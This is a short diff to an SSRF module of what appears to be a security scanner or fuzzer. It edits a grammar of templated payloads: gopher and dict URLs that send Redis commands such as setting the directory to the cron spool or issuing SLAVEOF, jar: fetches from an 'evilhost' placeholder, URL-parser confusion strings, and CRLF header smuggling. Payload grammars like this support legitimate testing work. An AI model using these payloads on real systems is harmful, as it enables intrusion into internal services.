@@ -163,7 +163,7 @@ internal static class Ssrf
         4× gopher://«innerhost»:«gophertarget»
         3× dict://«innerhost»:«6379¦11211¦22¦3306¦«port»»/«info¦stats¦stat¦d:word¦d:shell:«rand»¦config:set:dir:/«tmp¦var/spool/cron»¦set:x:«rand»¦quit¦show:db¦slaveof:«ip»:«port»¦«rand»»
         «ldap¦ldaps»://«innerhost»:«389¦636¦11211¦1389»/«%0astats%0aquit¦«word»¦cn=«word»¦o=«rand»»
-        2× «sftp¦tftp¦ftp¦ftps»://««innerhost»¦«evilhost»»:«21¦69¦22¦11211¦11111¦«port»»/««word»¦TESTUDPPACKET¦«rand»¦»
+        2× «sftp¦tftp¦ftp¦ftps»://«innerhost»:«21¦69¦22¦11211¦11111¦«port»»/««word»¦TESTUDPPACKET¦«rand»¦»
         netdoc://«unixfile»
         netdoc:«unixfile»
         jar:«httppart»««innerhost»¦«evilhost»»«¦:«port»»/«rand».«jar¦zip»!/«rand»«¦.txt»
@@ -204,7 +204,7 @@ internal static class Ssrf
         «httppart»«aim»«#.¦?.¦%00.¦%2f.¦%23.¦%5c.»«goodhost»
         «httppart»«word»:«word»@«aim»:«innerport»«@«goodhost»«¦/»¦/»
         «httppart»«goodhost»:«80¦11211¦22»«#¦?¦»@«aim»«¦:«innerport»»/
-        «httppart»«goodhost»#«@target¦«rand»@«aim»/»
+        «httppart»«goodhost»#«@«aim»¦«rand»@«aim»/»
         «httppart»«aim»:«80¦22»:«80¦80\¦443»/
         «httppart»1.1.1.1 &@«aim»# @3.3.3.3/
         «httppart»«aim»%0d%0a«Host:%20«evilhost»¦X-«rand»:%20«rand»¦%0d%0aGET%20/«rand»%20HTTP/1.1¦SLAVEOF%20«ip»%206379%0d%0a»
